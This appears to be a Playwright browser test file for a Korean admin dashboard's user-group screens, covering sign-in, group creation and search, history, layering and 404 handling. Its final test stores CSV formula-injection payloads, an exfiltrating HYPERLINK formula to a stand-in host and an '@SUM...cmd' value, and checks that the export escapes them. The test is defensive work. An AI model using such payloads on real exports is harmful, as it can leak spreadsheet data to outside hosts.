import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import {
  describeInBrowser,
  type LaunchedBrowser,
  launchBrowser,
  screenshot,
  signInThroughForm,
  UI_DIR,
  waitUntil,
} from '../testing/browser';
import { ADMIN, EMBEDDED_START_TIMEOUT_MS, startTestPlatform, type TestPlatform } from '../testing/platform';

/** The computed z-index of an element, read in the page (this project has no DOM types). */
type PageGlobals = { getComputedStyle(element: unknown): { zIndex: string } };
const layerOf = (element: unknown) => (globalThis as unknown as PageGlobals).getComputedStyle(element).zIndex;

describeInBrowser('user groups in the browser', () => {
  let platform: TestPlatform;
  let browser: LaunchedBrowser;
  let page: Page;

  beforeAll(async () => {
    // The embedded default, as a newcomer runs it.
    platform = await startTestPlatform({ uiDir: UI_DIR, embedded: true });
    browser = await launchBrowser();
    page = await browser.context.newPage();
  }, EMBEDDED_START_TIMEOUT_MS);
  afterAll(async () => {
    await browser?.close();
    await platform?.stop();
  });

  it('signs in, creates a group, finds it by search and opens its history', async () => {
    await page.goto(`${platform.url}/dashboard/usergroup`);
    await page.waitForURL(/\/login\?nextPage=%2Fdashboard%2Fusergroup$/);
    // Hold the sign-in answer a moment: the blurred overlay of a page that waits shows, once.
    await page.route('**/api/login', async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      await route.continue();
    });
    await signInThroughForm(page, ADMIN.email, ADMIN.password);
    const overlay = page.getByTestId('loading-overlay');
    await waitUntil(overlay);
    expect(await overlay.count()).toBe(1);
    expect(await overlay.evaluate(layerOf)).toBe('9999');
    const box = await overlay.getByTestId('loading-overlay-box').boundingBox();
    expect([box?.width, box?.height]).toEqual([250, 182]);
    await page.waitForURL(/\/dashboard\/usergroup$/);
    await page.unroute('**/api/login');

    // The list has loaded when it says it is empty (nothing created yet).
    await waitUntil(page.getByText('아직 등록된 사용자 그룹 항목이 없습니다.'));
    await page.getByRole('link', { name: '등록' }).first().click();
    await page.waitForURL(/\/dashboard\/usergroup\/create$/);
    await page.getByLabel('이름').fill('브라우저 시험 그룹');
    await page.getByLabel('설명').fill('화면에서 만든 그룹');
    await page.getByRole('button', { name: '저장' }).click();
    await waitUntil(page.getByText('브라우저 시험 그룹'));

    await page.goto(`${platform.url}/dashboard/usergroup`);
    await page.getByLabel('검색').fill('시험 그룹');
    // The row is already listed before the search applies; a click while the list re-renders for
    // the search can be lost, so the search is applied (in the URL) first.
    await page.waitForURL(/filter=.*q/);
    const row = page.getByRole('row', { name: /브라우저 시험 그룹/ });
    await waitUntil(row);
    expect(await page.getByRole('row').count()).toBe(2);
    await row.click();

    await page.getByRole('tab', { name: '이력' }).click();
    await waitUntil(page.getByText('생성'));
    await waitUntil(page.getByText('관리자'));
    await screenshot(page, 'usergroup-history');
  });

  it('shows the top progress bar over the app bar while a screen loads its data', async () => {
    await page.route('**/api/usergroup?*', async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 3_000));
      // The route may have been removed (and the request let through) while this one waited.
      await route.continue().catch(() => {});
    });
    const listRequested = page.waitForRequest('**/api/usergroup?*');
    await page.goto(`${platform.url}/dashboard/usergroup`);
    // Once the list has asked for its rows the screen's code has loaded: the bar now is the one
    // shown for the data (not the brief one shown while the screen's code loads).
    await listRequested;
    const bar = page.getByTestId('top-progress-bar');
    await waitUntil(bar);
    expect(await bar.evaluate(layerOf)).toBe('1290');
    // The bar is what the pointer meets at the top of the window, not the app bar under it.
    const onTop = await page.evaluate(
      `document.elementFromPoint(640, 1)?.closest('[data-testid="top-progress-bar"]') != null`,
    );
    expect(onTop).toBe(true);
    await page.unroute('**/api/usergroup?*');
    await waitUntil(bar, 'detached');
  });

  it('shows the Korean 404 page for an unknown path, and answers a missing asset with a 404', async () => {
    await page.goto(`${platform.url}/no/such/page`);
    await waitUntil(page.getByText('404'));
    const asset = await page.request.get(`${platform.url}/assets/gone-from-an-older-build.js`);
    expect(asset.status()).toBe(404);
    expect(asset.headers()['content-type']).not.toContain('text/html');
  });
  it('exports the list through the formula-safe CSV writer', async () => {
    const admin = (await platform.api.login(ADMIN.email, ADMIN.password)).token;
    const formula = '=HYPERLINK("http://x/"&B1,"a")';
    const created = await platform.api.request('POST', '/api/usergroup', {
      token: admin,
      body: { name: formula, description: '@SUM(1+9)*cmd' },
    });
    expect(created.status).toBe(201);
    // No filter: the list would otherwise restore the search the first test typed (react-admin
    // keeps a list's filter in localStorage).
    await page.goto(`${platform.url}/dashboard/usergroup?filter=${encodeURIComponent('{}')}`);
    await waitUntil(page.getByText(formula));
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: '내보내기' }).click(),
    ]);
    const csv = readFileSync((await download.path())!, 'utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain(`"'=HYPERLINK(""http://x/""&B1,""a"")"`);
    expect(csv).toContain("'@SUM(1+9)*cmd");
    expect(csv).not.toMatch(/(^|[,\n])"?[=@]/);
  });
});
